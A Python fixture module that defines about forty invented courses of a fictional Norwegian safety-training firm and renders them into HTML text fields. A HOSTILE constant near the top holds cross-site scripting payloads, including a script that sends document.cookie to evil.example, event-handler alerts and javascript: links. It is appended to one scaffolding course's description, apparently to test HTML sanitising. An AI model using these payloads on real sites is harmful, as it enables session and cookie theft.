"""The courses of Fjordkompetanse AS, an invented training firm.

The id of a course is 90001 plus its place in COURSES, so new ones go to the end.
"""

from dataclasses import dataclass

HOSTILE = (
    '<p onclick="alert(1)">Kurset følger gjeldende forskrift.</p>'
    "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    '<a href="javascript:alert(document.domain)">Les mer</a> '
    '<a href="https://www.arbeidstilsynet.no/" target="_blank" style="position:fixed">Krav</a>'
    '<iframe src="https://evil.example/"></iframe>'
    "<style>body{display:none}</style>"
    '<img src="x" onerror="alert(2)"><svg/onload=alert(3)>'
    '<table><tr><td background="javascript:alert(4)">1 &lt; 2 &amp; 3</td></tr></table>'
)


@dataclass(frozen=True)
class CourseText:
    """One course as the firm describes it; `texts` spells it as Frontcore's text fields."""

    reference: str
    title: str
    category: str
    price: float
    vat: int
    duration: int | None
    unit: str
    lead: str
    about: str
    points: tuple[str, ...] = ()
    audience: str | None = None
    requires: str | None = None
    english: tuple[str, str] | None = None
    gatherings: tuple[int, ...] = (0,)
    hours: tuple[str, str] | None = None
    instructor: int = 3304
    language: str = "no"
    level: int = 6
    type: str = "public"
    active: bool = True
    dates: bool = True
    online: bool = False
    main_product: bool = True
    member_price: float = 0
    price_comment: str | None = None
    external_booking_url: str | None = None
    tags: tuple[str, ...] = ()
    hostile: bool = False

    def texts(self) -> dict[str, dict[str, str | None]]:
        content = "".join(f"<li>{point}</li>" for point in self.points)
        about = f"<p>{self.about}</p>"
        if content:
            heading = "Content" if self.language == "en" else "Innhold"
            about += f"<h3>{heading}</h3><ul>{content}</ul>"
        own = {
            "text_lead": self.lead,
            "text_description": about + (HOSTILE if self.hostile else ""),
            "text_prerequisites": f"<p>{self.requires}</p>" if self.requires else None,
            "text_audience": f"<p>{self.audience}</p>" if self.audience else None,
        }
        found = {self.language: own}
        if self.english:
            lead, told = self.english
            found["en"] = {"text_lead": lead, "text_description": f"<p>{told}</p>"}
        return found


C = CourseText
WEEK3, WEEKS4 = (0, 1, 2), (0, 7, 14, 21)
EVENING = ("17:30:00", "20:30:00")

COURSES = [
    C(
        "varme-arbeider", "Varme arbeider", "brann", 2490, 0, 1, "days",
        "Sertifikatkurs for deg som sveiser, lodder, skjærer eller sliper utenfor fast verksted.",
        "Forsikringsselskapene krever gyldig sertifikat av alle som utfører varme arbeider. Kurset "
        "gir teori og praktisk slokkeøvelse, og sertifikatet gjelder i fem år.",
        ("Lover, regler og sikkerhetsforskriften", "Risiko og arbeidsinstruks", "Brannvakt",
         "Praktisk slokking med pulver og CO₂", "Avsluttende prøve"),
        "Rørleggere, blikkenslagere, taktekkere, sveisere og brannvakter.",
        "Ingen forkunnskaper. Ta med gyldig legitimasjon.",
        ("Certificate course for anyone doing hot work away from a fixed workshop.",
         "Insurers require a valid certificate from everyone doing hot work. One day of theory and "
         "practical fire extinguishing; the certificate is valid for five years."),
        instructor=3301, tags=("sertifikat", "brann"),
    ),
    C(
        "truck-t1-t4", "Truckførerkurs T1–T4", "truck", 6900, 25, 3, "days",
        "Sertifisert sikkerhetsopplæring på gaffeltruck, klasse T1 til T4.",
        "Modulbasert opplæring etter forskrift om utførelse av arbeid: teori over to dager og "
        "praksis på egne maskiner tredje dag. Kompetansebevis sendes etter bestått praksis.",
        ("Modul 1.1–2.3: felles teori", "Truckens oppbygging og stabilitet", "Daglig kontroll",
         "Praktisk kjøring med last", "Skriftlig og praktisk prøve"),
        "Lager, industri, bygg og transport.", "Fylt 18 år ved utstedelse av bevis.",
        ("Certified forklift training, classes T1 to T4.",
         "Two days of theory and one day of practice on our own trucks."),
        gatherings=WEEK3, instructor=3302, member_price=6200, tags=("sertifikat",),
    ),
    C(
        "hms-leder", "HMS-kurs for ledere", "hms", 3900, 0, 6, "hours",
        "Lovpålagt HMS-opplæring for øverste leder etter arbeidsmiljøloven § 3-5.",
        "Du lærer hva loven krever av deg som leder, og hvordan systematisk HMS-arbeid blir en del "
        "av hverdagen. Opplæringen er personlig og kan ikke delegeres.",
        ("Arbeidsmiljøloven og internkontroll", "Roller: leder, verneombud og AMU",
         "Risikovurdering i praksis", "Avvik, sykefravær og varsling"),
        "Daglige ledere og andre med øverste ansvar.", None,
        ("Statutory health and safety training for managers.",
         "What the Working Environment Act demands of you, and how to make it part of the day."),
        online=True, tags=("lovpålagt",),
    ),
    C(
        "forstehjelp-grunnkurs", "Førstehjelp grunnkurs", "forstehjelp", 1690, 0, 4, "hours",
        "Livreddende førstehjelp med hjertestarter, etter retningslinjene fra NRR.",
        "Du øver på dukke til det sitter: hjerte- og lungeredning, hjertestarter, kvelning, store "
        "blødninger og allergisk sjokk.",
        ("HLR på voksne og barn", "Bruk av hjertestarter", "Blødning, sjokk og brannskader"),
        "Alle arbeidsplasser.", None,
        ("Life-saving first aid with a defibrillator.",
         "Hands-on training in CPR, choking, severe bleeding and allergic shock."),
        hours=("12:00:00", "16:00:00"), instructor=3303, level=21,
    ),
    C(
        "forstehjelp-bedrift", "Bedriftsinternt førstehjelpskurs", "forstehjelp", 0, 0, 4, "hours",
        "Vi kommer til dere. Prisen avtales etter antall deltakere.",
        "Innholdet tilpasses bedriftens egne risikoer og lokaler.",
        level=15, type="corporate", instructor=3303, price_comment="Pris på forespørsel",
        dates=False,
    ),
    C(
        "intern-instruktor", "Instruktørsamling for egne ansatte", "ledelse", 0, 0, 1, "days",
        "Intern samling for kursholdere i Fjordkompetanse.", "Årlig kalibrering av instruktører.",
        type="internal", dates=False,
    ),
    C(
        "epoxykurs-gammelt", "Epoxykurs (erstattet av herdeplastkurs)", "hms", 1500, 0, 4, "hours",
        "Kurset er erstattet.", "Se kurs i herdeplast.", active=False, dates=False,
    ),
    C(
        "personlofter", "Personløfter klasse A, B og C", "truck", 4200, 25, 2, "days",
        "Dokumentert opplæring på saks-, bom- og teleskoplift.",
        "Teori og praksis på liftene som faktisk brukes på norske byggeplasser.",
        ("Teori og forskrift", "Fallsikring i lift", "Praktisk kjøring"),
        "Byggeplasser, vedlikehold og fasade.", "Fylt 18 år.",
        gatherings=(0, 1), instructor=3302, main_product=False, dates=False,
    ),
    C(
        "aapen-kveld", "Åpen kveld: HMS for småbedrifter", "hms", 0, 0, 2, "hours",
        "Gratis kveld for deg med færre enn ti ansatte.",
        "Vi går gjennom de fem vanligste avvikene Arbeidstilsynet finner, og svarer på spørsmål.",
        hours=("18:00:00", "20:00:00"), level=8, online=True,
    ),
    C(
        "ysk-etterutdanning", "YSK etterutdanning godstransport", "transport", 5400, 25, 35,
        "hours", "Fem dagers etterutdanning for yrkessjåfører.",
        "Påmelding skjer hos trafikkskolen vi samarbeider med.",
        ("Optimal kjøring", "Kjøre- og hviletid", "Miljø, helse og sikkerhet"),
        "Yrkessjåfører med førerrett C/CE.", "Gyldig førerkort klasse C1, C1E, C eller CE.",
        gatherings=(0, 1, 2, 3, 4), external_booking_url="https://trafikkskolen.example/ysk",
        dates=False, level=23,
    ),
    C(
        "hot-work-english", "Hot work certificate (in English)", "brann", 2690, 0, 1, "days",
        "The Norwegian hot work certificate, taught in English.",
        "The same syllabus and the same exam as the Norwegian course, with an English-speaking "
        "instructor. Valid for five years in Norway, Sweden, Denmark, Finland and Iceland.",
        ("Rules and responsibilities", "Risk assessment", "Fire watch", "Practical extinguishing"),
        "Welders, plumbers, roofers and fire watches.", "Bring valid identification.",
        language="en", instructor=3301,
    ),
    C(
        "adr-grunnkurs", "ADR grunnkurs – farlig gods", "transport", 6300, 25, 3, "days",
        "Kompetansebevis for transport av farlig gods i kolli.",
        "Tre dager med teori og øvelser, avsluttet med eksamen hos DSB. Nye datoer kommer.",
        ("Klassifisering og merking", "Dokumenter", "Tiltak ved uhell"), "Sjåfører.",
        gatherings=WEEK3, dates=False, level=21,
    ),
    C(
        "stillas-2-5", "Stillasbygging 2–5 meter", "bygg", 3400, 25, 2, "days",
        "Teori og praksis for deg som monterer stillas mellom to og fem meter.",
        "Forskriften krever 7,5 timer teori og 7,5 timer praksis. Vi bygger, kontrollerer og river "
        "rullestillas og rammestillas i egen hall.",
        ("Regelverk og ansvar", "Montering og forankring", "Kontroll og merking"),
        "Malere, tømrere, murere og elektrikere.", None,
        ("Scaffolds between two and five metres.", "Theory and practice in our own hall."),
        gatherings=(0, 1), instructor=3306, hostile=True, level=21,
    ),
    C(
        "excel-viderekomne", "Excel for viderekomne", "it", 3290.5, 25, 1, "days",
        "Pivottabeller, oppslag og Power Query – uten å bli sittende fast.",
        "For deg som bruker Excel hver uke og vil slutte å gjøre ting for hånd.",
        ("XLOOKUP og dynamiske matriser", "Pivottabeller", "Power Query", "Vanlige feil"),
        "Økonomi, prosjekt og administrasjon.", "Du lager egne formler i dag.",
        online=True, instructor=3308, level=22,
    ),
    C(
        "hms-verneombud-40", "Grunnkurs i arbeidsmiljø – 40 timer", "hms", 7900, 0, 40, "hours",
        "Lovpålagt opplæring for verneombud og medlemmer av arbeidsmiljøutvalg.",
        "Fire samlinger à en dag med e-læring imellom. Du får kursbevis som gjelder i alle "
        "bransjer.",
        ("Arbeidsmiljøloven", "Psykososialt arbeidsmiljø", "Kartlegging og risikovurdering",
         "Støy, kjemikalier og ergonomi", "Verneombudets rolle"),
        "Verneombud, AMU-medlemmer og ledere.", None,
        ("Statutory 40-hour working environment course.", "For safety representatives."),
        gatherings=WEEKS4, online=True, tags=("lovpålagt",),
        level=21,
    ),
    C(
        "traverskran-g11", "Traverskran G11", "truck", 4900, 25, 2, "days",
        "Sikkerhetsopplæring for førere av bro- og traverskran.",
        "Teori, stropping og praktisk kjøring med ulike laster.",
        ("Kranens oppbygging", "Signalgiving", "Stropping", "Praksis"), "Industri og verksted.",
        "Fylt 18 år.", gatherings=(0, 1), instructor=3302, member_price=4400,
    ),
    C(
        "stropp-g5", "Stroppe- og signalgiverkurs G11/G20", "truck", 2600, 25, 1, "days",
        "Lær å feste, sikre og signalere last.", "Dekker kravene til anhuker og signalgiver.",
        ("Løfteredskap og kassasjon", "Vinkler og lastgrenser", "Tegn og radiobruk"),
        instructor=3302,
    ),
    C(
        "maskinforer-m2", "Maskinførerkurs M2 gravemaskin", "maskin", 9800, 25, 5, "days",
        "Teori og praksis for hjul- og beltegraver over 8 tonn.",
        "Fire dager teori etter modul 1 og 2, og kjøring på egen plass. Praksistid føres i "
        "praksisbok hos arbeidsgiver.",
        ("Modul 1.1: grunnopplæring", "Modul 2.1: maskinlære", "Graving nær kabler og rør"),
        "Anlegg, landbruk og kommune.", "Fylt 18 år (16 år for lærlinger).",
        gatherings=(0, 1, 2, 3, 4), instructor=3302, member_price=9000,
    ),
    C(
        "hjullaster-m4", "Maskinførerkurs M4 hjullaster", "maskin", 7600, 25, 4, "days",
        "Sikkerhetsopplæring på hjullaster.", "Samme teori som M2, egen praksis.",
        gatherings=(0, 1, 2, 3), instructor=3302,
    ),
    C(
        "fallsikring", "Fallsikring og redning", "bygg", 2300, 25, 1, "days",
        "Riktig bruk av sele, line og forankring – og hvordan du får ned en kollega.",
        "Halve dagen er øving i høyden under kontrollerte forhold.",
        ("Valg og kontroll av utstyr", "Forankring", "Redningsøvelse"),
        "Alle som arbeider over to meter.", "God allmenntilstand.",
        ("Fall protection and rescue.", "Half the day is practice at height."), instructor=3306,
    ),
    C(
        "stillas-over-9", "Stillasbygging over 9 meter", "bygg", 11900, 25, 5, "days",
        "For profesjonelle stillasbyggere: 36 timer teori og 72 timer praksis.",
        "Teoridelen tas hos oss; praksis føres hos godkjent bedrift.",
        gatherings=(0, 1, 2, 3, 4), instructor=3306, level=22,
    ),
    C(
        "herdeplast", "Herdeplast, epoksy og isocyanater", "hms", 1950, 0, 5, "hours",
        "Lovpålagt kurs for deg som arbeider med herdeplaster.",
        "Gyldig i fem år. Du lærer hvordan stoffene gjør skade, og hvordan du unngår det.",
        ("Helsefare", "Sikkerhetsdatablad", "Verneutstyr og hudvern"), online=True,
    ),
    C(
        "asbestsanering", "Asbestsanering for operatører", "hms", 6900, 0, 3, "days",
        "Kurs for deg som skal rive eller håndtere asbest.", "Teori, skiller, luftmåling og sluse.",
        gatherings=WEEK3,
    ),
    C(
        "brannvern-leder", "Brannvernleder", "brann", 4600, 0, 2, "days",
        "Bli trygg i rollen som brannvernleder i egen virksomhet.",
        "Fra forskrift om brannforebygging til gjennomført øvelse.",
        ("Eier og bruker", "Brannbok og rutiner", "Evakuering", "Slokkeøvelse"),
        gatherings=(0, 1), instructor=3301,
    ),
    C(
        "slokkeovelse", "Slokkeøvelse – to timer ute", "brann", 690, 0, 2, "hours",
        "Kort og praktisk: teppe, pulver, skum og CO₂.", "Vi har med alt utstyret.",
        hours=("13:00:00", "15:00:00"), instructor=3301,
    ),
    C(
        "forstehjelp-barn", "Førstehjelp for barn og spedbarn", "forstehjelp", 1290, 0, 3, "hours",
        "For foreldre, barnehager og alle som har ansvar for små barn.",
        "Feber, krupp, kvelning og fall. Vi øver på små dukker.",
        hours=EVENING, instructor=3303, level=21,
    ),
    C(
        "forstehjelp-instruktor", "Førstehjelpsinstruktør", "forstehjelp", 8900, 0, 4, "days",
        "Bli godkjent til å holde grunnkurs.", "To samlinger à to dager med oppgave imellom.",
        gatherings=(0, 1, 21, 22), instructor=3303, level=22,
    ),
    C(
        "fse-laverespenning", "FSE – sikkerhet ved elektriske anlegg", "elektro", 1890, 0, 6,
        "hours", "Årlig lovpålagt opplæring for deg som arbeider på eller nær elektriske anlegg.",
        "Med førstehjelp ved strømskade. Kurset må gjentas hver tolvte måned.",
        ("Forskriften", "Arbeid på frakoblet og under spenning", "Førstehjelp"),
        "Elektrikere, montører og driftspersonell.", None,
        ("Annual electrical safety training (FSE).", "With first aid for electrical injuries."),
        online=True, instructor=3305, tags=("lovpålagt", "årlig"),
        level=23,
    ),
    C(
        "nek400", "NEK 400 – endringene", "elektro", 4300, 25, 1, "days",
        "Hva er nytt i siste utgave, og hva betyr det på jobb?",
        "Vi går gjennom delnormene med eksempler fra bolig, næring og ladeanlegg.",
        online=True, instructor=3305, level=23,
    ),
    C(
        "ladeanlegg", "Prosjektering av ladeanlegg for elbil", "elektro", 5200, 25, 2, "days",
        "Fra effektbehov til ferdig dokumentasjon i borettslag.",
        "Lastbalansering, jordfeilvern type B og krav til kontroll.",
        gatherings=(0, 1), instructor=3305, level=22,
    ),
    C(
        "ny-som-leder", "Ny som leder", "ledelse", 12900, 25, 4, "days",
        "Fire samlinger som gir deg verktøy du kan bruke i morgen.",
        "Du får en egen veileder, og mellom samlingene prøver du det ut på jobben.",
        ("Rollen og forventningene", "Samtaler som betyr noe", "Prioritering", "Team i endring"),
        "Ledere med inntil to års erfaring.", None,
        ("Your first year as a manager.", "Four gatherings with a mentor of your own."),
        gatherings=(0, 14, 28, 42), instructor=3307, member_price=11900, level=21,
    ),
    C(
        "vanskelige-samtaler", "Den vanskelige samtalen", "ledelse", 3900, 25, 1, "days",
        "Øv på samtalene du helst utsetter.", "Med skuespiller og tilbakemelding.",
        level=8, instructor=3307,
    ),
    C(
        "sykefravaer", "Sykefraværsoppfølging for ledere", "ledelse", 2450, 25, 3, "hours",
        "Plikter, frister og det gode møtet.", "Digitalt kurs med kasus.",
        hours=("09:00:00", "12:00:00"), online=True, instructor=3307,
    ),
    C(
        "prosjektledelse", "Prosjektledelse i praksis", "ledelse", 8900, 25, 3, "days",
        "Fra idé til overlevering – uten å drukne i maler.", "Arbeid med ditt eget prosjekt.",
        gatherings=(0, 7, 14), instructor=3307,
    ),
    C(
        "teams-sharepoint", "Teams og SharePoint for arbeidsgrupper", "it", 2290, 25, 4, "hours",
        "Få orden på filer, kanaler og møter.", "Digitalt kurs i små grupper.",
        hours=("09:00:00", "13:00:00"), online=True, instructor=3308, level=21,
    ),
    C(
        "ki-kontor", "Kunstig intelligens på kontoret", "it", 2990, 25, 1, "days",
        "Hva verktøyene kan, hva de finner på, og hva du ikke skal lime inn.",
        "Øvelser med dine egne arbeidsoppgaver, og en grundig time om personvern.",
        ("Gode instrukser", "Kontroll av svar", "Personvern og opphavsrett"),
        online=True, instructor=3308,
    ),
    C(
        "word-lange", "Word: lange dokumenter", "it", 2190, 25, 4, "hours",
        "Stiler, innholdsfortegnelse og kryssreferanser.", "Slutt på at bilder hopper.",
        online=True, instructor=3308, level=22,
    ),
    C(
        "lastsikring", "Lastsikring for sjåfører", "transport", 1990, 25, 1, "days",
        "Surring, lastfordeling og ansvar ved kontroll.", "Teori og praksis ved egen bil.",
        instructor=3302,
    ),
    C(
        "arbeidsvarsling", "Arbeidsvarsling kurs 1", "transport", 1850, 25, 4, "hours",
        "For alle som arbeider på og ved veg, etter håndbok N301.",
        "Digitalt klasserom med prøve.", online=True, instructor=3304,
    ),
    C(
        "safety-induction", "Site safety induction (in English)", "hms", 950, 0, 3, "hours",
        "Basic health and safety for workers new to Norwegian sites.",
        "Rights and duties, reporting, personal protective equipment and emergency routines.",
        ("The Working Environment Act in brief", "HSE card", "Reporting", "Emergencies"),
        "Workers from abroad.", None, language="en", online=True, hours=("09:00:00", "12:00:00"),
        level=21,
    ),
    C(
        "motorsag", "Motorsagkurs – grunnleggende", "maskin", 3700, 25, 2, "days",
        "Trygg felling, kvisting og kapping.", "En dag teori og sløyd, en dag i skogen.",
        gatherings=(0, 1), instructor=3306, dates=False, level=21,
    ),
]  # fmt: skip
